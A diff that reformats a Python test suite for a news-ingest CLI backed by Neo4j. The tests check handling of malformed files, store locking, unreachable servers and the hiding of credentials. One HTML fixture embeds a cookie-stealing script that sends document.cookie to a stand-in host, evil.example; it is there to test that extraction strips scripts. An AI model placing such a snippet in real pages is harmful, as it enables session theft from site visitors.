@@ -35,10 +35,12 @@ GOOD = "# Ministers meet\nMay 1, 2024\n\nThe foreign ministers of France and Ger
 NO_HEADER = "Officials from Japan and South Korea held talks in Seoul on Tuesday."
 LATIN1 = "Le ministre fran\u00e7ais a rencontr\u00e9 son homologue allemand \u00e0 Berlin."
 UTF16 = "Germany\u2019s chancellor called the French president on Friday."
-HTML = ("<html><head><title>Talks &amp; more</title><script>var stolen = document.cookie;</script>"
-        "</head><body><p>The Italian prime minister met the Spanish prime minister in Rome.</p>"
-        "<script>fetch('https://evil.example/?' + document.cookie)</script>"
-        "<p onclick=\"alert(1)\">They agreed to meet again.</p></body></html>")
+HTML = (
+    "<html><head><title>Talks &amp; more</title><script>var stolen = document.cookie;</script>"
+    "</head><body><p>The Italian prime minister met the Spanish prime minister in Rome.</p>"
+    "<script>fetch('https://evil.example/?' + document.cookie)</script>"
+    '<p onclick="alert(1)">They agreed to meet again.</p></body></html>'
+)
 
 
 def sha(text: str) -> str:
@@ -47,19 +49,34 @@ def sha(text: str) -> str:
 
 def cli_run(*args, env: dict | None = None, input: str | None = None):
     """The command in this process (click's runner keeps stdout and stderr apart)."""
-    base = {"NEO4J_URI": None, "DIPLOGRAPH_STORE": None, "NEO4J_USER": None,
-            "NEO4J_PASSWORD": None, "NEO4J_DATABASE": None}
+    base = {
+        "NEO4J_URI": None,
+        "DIPLOGRAPH_STORE": None,
+        "NEO4J_USER": None,
+        "NEO4J_PASSWORD": None,
+        "NEO4J_DATABASE": None,
+    }
     base.update(env or {})
     return CliRunner().invoke(cli.main, [str(a) for a in args], env=base, input=input)
 
 
 def cli_process(*args, env: dict | None = None, **kwargs) -> subprocess.Popen:
     """The command as a separate process, as a user runs it."""
-    environ = {k: v for k, v in os.environ.items()
-               if k not in {"NEO4J_URI", "NEO4J_USER", "NEO4J_PASSWORD", "DIPLOGRAPH_STORE"}}
+    environ = {
+        k: v
+        for k, v in os.environ.items()
+        if k not in {"NEO4J_URI", "NEO4J_USER", "NEO4J_PASSWORD", "DIPLOGRAPH_STORE"}
+    }
     environ.update(env or {})
-    return subprocess.Popen([PY, str(ROOT / "cli.py"), *map(str, args)], cwd=ROOT, env=environ,
-                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **kwargs)
+    return subprocess.Popen(
+        [PY, str(ROOT / "cli.py"), *map(str, args)],
+        cwd=ROOT,
+        env=environ,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        **kwargs,
+    )
 
 
 def error_lines(text: str) -> list[str]:
@@ -75,12 +92,17 @@ def bad_and_good_folder(folder: Path) -> tuple[dict[str, str], dict[str, str]]:
     (folder / "latin1.txt").write_bytes(LATIN1.encode("latin-1"))
     (folder / "utf16.txt").write_bytes(UTF16.encode("utf-16"))  # with a BOM
     (folder / "page.html").write_text(HTML, encoding="utf-8")
-    (folder / "feed.jsonl").write_text("\n".join([
-        json.dumps({"id": "a", "title": "One", "text": "Canada and Mexico signed a trade deal."}),
-        '{"id": "b", "text": "unterminated',
-        json.dumps({"id": "c", "title": ["not", "a", "string"], "text": "Peru protested."}),
-        json.dumps({"id": "d", "text": "Chile and Argentina agreed to talks."}),
-    ]), encoding="utf-8")
+    (folder / "feed.jsonl").write_text(
+        "\n".join(
+            [
+                json.dumps({"id": "a", "title": "One", "text": "Canada and Mexico signed a trade deal."}),
+                '{"id": "b", "text": "unterminated',
+                json.dumps({"id": "c", "title": ["not", "a", "string"], "text": "Peru protested."}),
+                json.dumps({"id": "d", "text": "Chile and Argentina agreed to talks."}),
+            ]
+        ),
+        encoding="utf-8",
+    )
     (folder / "empty.txt").write_bytes(b"")
     (folder / "binary.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" * 50)
     with open(folder / "huge.txt", "wb") as f:  # 50 MB of text
@@ -92,8 +114,9 @@ def bad_and_good_folder(folder: Path) -> tuple[dict[str, str], dict[str, str]]:
         "no_title_no_date.txt": sha(NO_HEADER),
         "latin1.txt": sha(LATIN1),
         "utf16.txt": sha(UTF16),
-        "page.html": sha("The Italian prime minister met the Spanish prime minister in Rome."
-                         "\n\nThey agreed to meet again."),
+        "page.html": sha(
+            "The Italian prime minister met the Spanish prime minister in Rome.\n\nThey agreed to meet again."
+        ),
         "feed.jsonl:1": sha("Canada and Mexico signed a trade deal."),
         "feed.jsonl:4": sha("Chile and Argentina agreed to talks."),
     }
@@ -108,6 +131,7 @@ def bad_and_good_folder(folder: Path) -> tuple[dict[str, str], dict[str, str]]:
 
 
 # --- inputs ------------------------------------------------------------------------------------
+
 
 def test_one_bad_file_among_good_ones_each_named_in_one_line_good_ones_stored(tmp_path):
     good, bad = bad_and_good_folder(tmp_path / "in")
@@ -147,8 +171,10 @@ def test_the_50_mb_file_is_refused_before_it_is_read(tmp_path):
     [error] = list(iter_documents(path))
     assert time.perf_counter() - started < 1
     assert isinstance(error, InputError)
-    assert str(error) == (f"{path}: file of 52,428,800 bytes is over the limit of "
-                          f"{DEFAULT_MAX_BYTES:,} (raise it with --max-bytes)")
+    assert str(error) == (
+        f"{path}: file of 52,428,800 bytes is over the limit of "
+        f"{DEFAULT_MAX_BYTES:,} (raise it with --max-bytes)"
+    )
 
 
 def test_max_bytes_raises_the_limit_and_an_overlong_text_is_still_one_line(tmp_path):
@@ -172,15 +198,18 @@ def test_cli_max_bytes_option(tmp_path):
     result = cli_run("ingest", small, "--store", tmp_path / "db", "--max-bytes", 20)
     assert result.exit_code == 1
     assert error_lines(result.stderr) == [
-        f"error: {small}: file of {len(NO_HEADER)} bytes is over the limit of 20 "
-        f"(raise it with --max-bytes)"]
+        f"error: {small}: file of {len(NO_HEADER)} bytes is over the limit of 20 (raise it with --max-bytes)"
+    ]
     assert "0 stored, 0 already stored, 1 failed" in result.stdout
 
 
-@pytest.mark.parametrize("data, reason", [
-    (b"\xff\xfeA\x00B", "not valid UTF-16 text"),  # odd length after a UTF-16 BOM
-    (b"\xfe\xff\xd8\x00\x00A", "not valid UTF-16 text"),  # a lone surrogate
-])
+@pytest.mark.parametrize(
+    "data, reason",
+    [
+        (b"\xff\xfeA\x00B", "not valid UTF-16 text"),  # odd length after a UTF-16 BOM
+        (b"\xfe\xff\xd8\x00\x00A", "not valid UTF-16 text"),  # a lone surrogate
+    ],
+)
 def test_broken_utf16_is_an_input_error_not_a_crash(tmp_path, data, reason):
     path = tmp_path / "a.txt"
     path.write_bytes(data)
@@ -192,8 +221,10 @@ def test_json_lines_split_only_at_newlines(tmp_path):
     """U+2028 is legal unescaped inside a JSON string; it must not cut a record in two."""
     path = tmp_path / "feed.jsonl"
     text = "Line one\u2028still the same sentence about Peru."
-    path.write_text(json.dumps({"text": text}, ensure_ascii=False) + "\n"
-                    + json.dumps({"text": "Two."}) + "\n", encoding="utf-8")
+    path.write_text(
+        json.dumps({"text": text}, ensure_ascii=False) + "\n" + json.dumps({"text": "Two."}) + "\n",
+        encoding="utf-8",
+    )
     docs = list(iter_documents(path))
     assert [d.text for d in docs] == [text, "Two."]
     assert [d.source for d in docs] == [f"{path}:1", f"{path}:2"]
@@ -216,15 +247,17 @@ def test_second_ingest_on_a_busy_embedded_store_stops_with_a_clear_message(tmp_p
     db = tmp_path / "db"
     article = tmp_path / "a.txt"
     article.write_text(GOOD)
-    holder = subprocess.Popen([PY, "-c", HOLD, str(db), str(ROOT)], stdin=subprocess.PIPE,
-                              stdout=subprocess.PIPE, text=True)
+    holder = subprocess.Popen(
+        [PY, "-c", HOLD, str(db), str(ROOT)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
+    )
     try:
         assert holder.stdout.readline().strip() == "open"
         result = cli_run("ingest", article, "--store", db)
         assert result.exit_code == 2
         assert error_lines(result.stderr) == [
             f"error: the embedded store at {db} is in use by another process (pid {holder.pid}); "
-            f"wait for it to finish and try again"]
+            f"wait for it to finish and try again"
+        ]
         assert result.stdout == ""
     finally:
         holder.stdin.close()
@@ -243,7 +276,7 @@ def test_two_real_ingests_at_once_never_corrupt_the_store(tmp_path):
     outcomes = [(p.wait(timeout=300), *p.communicate()) for p in procs]
     codes = sorted(code for code, _, _ in outcomes)
     assert codes in ([0, 0], [0, 2])
-    for code, out, err in outcomes:
+    for code, _out, err in outcomes:
         assert "Traceback" not in err
         if code == 2:
             assert error_lines(err) == [line for line in err.splitlines() if line.strip()]
@@ -264,6 +297,7 @@ def test_two_real_ingests_at_once_never_corrupt_the_store(tmp_path):
 
 # --- Neo4j: unreachable, stopped midway, wrong credentials --------------------------------------
 
+
 def free_port() -> int:
     with socket.socket() as s:
         s.bind(("127.0.0.1", 0))
@@ -274,8 +308,7 @@ def test_neo4j_unreachable_at_start_is_one_line_naming_the_uri_exit_2(tmp_path):
     article = tmp_path / "a.txt"
     article.write_text(GOOD)
     uri = f"bolt://127.0.0.1:{free_port()}"
-    proc = cli_process("ingest", article, "--neo4j-uri", uri,
-                       env={"NEO4J_PASSWORD": "s3cret-Unreachable"})
+    proc = cli_process("ingest", article, "--neo4j-uri", uri, env={"NEO4J_PASSWORD": "s3cret-Unreachable"})
     out, err = proc.communicate(timeout=120)
     assert proc.returncode == 2
     lines = err.splitlines()
@@ -299,7 +332,8 @@ def test_a_non_bolt_uri_is_refused_in_one_line(tmp_path):
     result = cli_run("stats", "--neo4j-uri", "http://127.0.0.1:7474")
     assert result.exit_code == 2
     assert error_lines(result.stderr) == [
-        "error: http://127.0.0.1:7474 is not a Bolt URI (bolt://host:7687 or neo4j://host:7687)"]
+        "error: http://127.0.0.1:7474 is not a Bolt URI (bolt://host:7687 or neo4j://host:7687)"
+    ]
 
 
 PASSWORD = "Corr3ct-h0rse-battery"
@@ -317,18 +351,27 @@ class ThrowawayNeo4j:
         (home / "neo4j" / "lib").symlink_to(ROOT / "neo4j" / "lib")
         self.port = free_port()
         self.uri = f"bolt://127.0.0.1:{self.port}"
-        self.env = dict(os.environ, NEO4J_PORT=str(self.port), NEO4J_HEAP="512m",
-                        NEO4J_PAGECACHE="64m",
-                        # the script's readiness probe logs in without a password: TCP only
-                        PYTHON="/bin/false",
-                        NEO4J_EXTRA_CONF="server.config.strict_validation.enabled=false\n"
-                                         "dbms.security.auth_enabled=true\n"
-                                         "dbms.security.auth_max_failed_attempts=0")
+        self.env = dict(
+            os.environ,
+            NEO4J_PORT=str(self.port),
+            NEO4J_HEAP="512m",
+            NEO4J_PAGECACHE="64m",
+            # the script's readiness probe logs in without a password: TCP only
+            PYTHON="/bin/false",
+            NEO4J_EXTRA_CONF="server.config.strict_validation.enabled=false\n"
+            "dbms.security.auth_enabled=true\n"
+            "dbms.security.auth_max_failed_attempts=0",
+        )
         self.env.pop("NEO4J_URI", None)
 
     def script(self, command: str) -> None:
-        done = subprocess.run([str(self.home / "neo4j" / "server.sh"), command], env=self.env,
-                              capture_output=True, text=True, timeout=300)
+        done = subprocess.run(
+            [str(self.home / "neo4j" / "server.sh"), command],
+            env=self.env,
+            capture_output=True,
+            text=True,
+            timeout=300,
+        )
         assert done.returncode == 0, done.stdout + done.stderr
 
     def start(self) -> None:
@@ -352,8 +395,9 @@ class ThrowawayNeo4j:
         import neo4j
 
         with neo4j.GraphDatabase.driver(self.uri, auth=("neo4j", "neo4j")) as d:
-            d.execute_query("ALTER CURRENT USER SET PASSWORD FROM 'neo4j' TO $pw",
-                            pw=PASSWORD, database_="system")
+            d.execute_query(
+                "ALTER CURRENT USER SET PASSWORD FROM 'neo4j' TO $pw", pw=PASSWORD, database_="system"
+            )
 
     def stop(self) -> None:
         self.script("stop")
@@ -387,14 +431,16 @@ def test_wrong_credentials_one_line_exit_2_password_never_shown(auth_neo4j, tmp_
     result = cli_run("ingest", article, env=neo4j_env(auth_neo4j, wrong))
     assert result.exit_code == 2
     assert error_lines(result.stderr) == [
-        f"error: Neo4j at {auth_neo4j.uri} refused the credentials of user 'neo4j'"]
+        f"error: Neo4j at {auth_neo4j.uri} refused the credentials of user 'neo4j'"
+    ]
     assert wrong not in result.output and result.stdout == ""
 
     missing = cli_run("stats", env=neo4j_env(auth_neo4j, None))
     assert missing.exit_code == 2
     assert error_lines(missing.stderr) == [
         f"error: Neo4j at {auth_neo4j.uri} refused the credentials of user 'neo4j' "
-        f"(no password given: set NEO4J_PASSWORD)"]
+        f"(no password given: set NEO4J_PASSWORD)"
+    ]
 
     # the driver's own debug log (what a user might switch on) never holds the password either
     from graph.neo4j_store import Neo4jStore
@@ -412,8 +458,7 @@ def test_wrong_credentials_one_line_exit_2_password_never_shown(auth_neo4j, tmp_
 @pytest.mark.neo4j
 def test_password_is_asked_at_a_terminal_when_not_in_the_environment(auth_neo4j, monkeypatch):
     monkeypatch.setattr(cli, "can_prompt", lambda: True)
-    result = cli_run("stats", "--format", "json", env=neo4j_env(auth_neo4j, None),
-                     input=PASSWORD + "\n")
+    result = cli_run("stats", "--format", "json", env=neo4j_env(auth_neo4j, None), input=PASSWORD + "\n")
     assert result.exit_code == 0, result.output
     assert "Neo4j password for neo4j" in result.stderr
     assert PASSWORD not in result.output  # typed, not echoed
@@ -422,7 +467,8 @@ def test_password_is_asked_at_a_terminal_when_not_in_the_environment(auth_neo4j,
 
 @pytest.mark.neo4j
 def test_neo4j_stopped_midway_keeps_what_was_committed_and_a_rerun_finishes(
-        auth_neo4j, corpus, tmp_path, monkeypatch):
+    auth_neo4j, corpus, tmp_path, monkeypatch
+):
     from graph.neo4j_store import Neo4jStore
 
     articles = sorted(corpus.glob("*.txt"))
@@ -451,10 +497,13 @@ def test_neo4j_stopped_midway_keeps_what_was_committed_and_a_rerun_finishes(
     assert "Traceback" not in cut.output and PASSWORD not in cut.output
     assert "1 stored, 0 already stored, 0 failed before the store failed" in cut.stderr
     [error] = error_lines(cut.stderr)
-    assert error.startswith(f"error: lost Neo4j at {auth_neo4j.uri}") or \
-        error.startswith(f"error: write failed")
-    assert error.endswith("1 new article(s) were stored before that and stay stored; "
-                          "run the same command again to store the rest")
+    assert error.startswith(f"error: lost Neo4j at {auth_neo4j.uri}") or error.startswith(
+        "error: write failed"
+    )
+    assert error.endswith(
+        "1 new article(s) were stored before that and stay stored; "
+        "run the same command again to store the rest"
+    )
 
     with Neo4jStore(auth_neo4j.uri, "neo4j", PASSWORD) as neo:
         kept = neo.stats()
